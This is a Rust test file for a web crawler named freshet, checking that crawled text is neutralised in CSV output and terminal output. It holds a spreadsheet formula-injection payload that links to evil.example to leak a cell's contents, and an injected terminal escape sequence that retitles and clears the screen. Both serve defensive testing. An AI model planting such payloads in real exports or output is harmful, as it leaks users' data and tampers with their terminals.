//! Text of strangers, in what spreadsheets and terminals are given: it is never obeyed.

use crate::support::operator::crawl;
use crate::support::{Freshet, Reply, Site};

#[test]
fn a_spreadsheet_finds_no_formula_in_a_list_of_pages() {
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")";
    let site = Site::start();
    site.page("/", Reply::bytes(formula, b"words".to_vec()));
    let freshet = Freshet::new();
    crawl(&freshet, &[site.url("/")], &["--delay", "0", "--no-sitemaps"]);
    let listed = freshet.run(&["pages", "--format", "csv"]);
    let mut rows = csv::Reader::from_reader(listed.stdout.as_bytes());
    let at = rows.headers().unwrap().iter().position(|head| head == "content_type").unwrap();
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(row.get(at), Some(format!("'{formula}").as_str()), "{}", listed.output());
    let starts = |cell: &str| cell.starts_with(['=', '+', '-', '@']);
    assert!(!row.iter().any(starts), "{}", listed.output());
}

#[test]
fn a_store_of_a_stranger_says_nothing_to_the_terminal() {
    let site = Site::start();
    site.page("/", "words");
    site.page("/page", "words");
    let freshet = Freshet::new();
    crawl(&freshet, &[site.url("/"), site.url("/page")], &["--delay", "0", "--no-sitemaps"]);
    let store = rusqlite::Connection::open(freshet.path("freshet.db")).unwrap();
    let escape = "\u{1b}]0;owned\u{7}\u{9b}2J";
    store.execute("UPDATE page SET url = url || ?1, content_type = ?1", [escape]).unwrap();
    store.execute("UPDATE cycle SET policy = policy || ?1", [escape]).unwrap();
    store.close().unwrap();
    let url = site.url("/page") + escape;
    for arguments in [
        &["pages"][..],
        &["pages", "--format", "csv"],
        &["status"],
        &["plan"],
        &["changes"],
        &["why", &url],
        &["history", &url],
        &["diff", &url],
        &["estimate"],
        &["export", "--format", "observations", "--out", "visits.csv"],
    ] {
        let ran = freshet.run(arguments);
        let sent = ran.stdout.clone() + &ran.stderr;
        assert!(!sent.contains(['\u{1b}', '\u{7}', '\u{9b}']), "{arguments:?}: {sent:?}");
    }
    assert!(freshet.run(&["pages"]).stdout.contains("owned"));
}
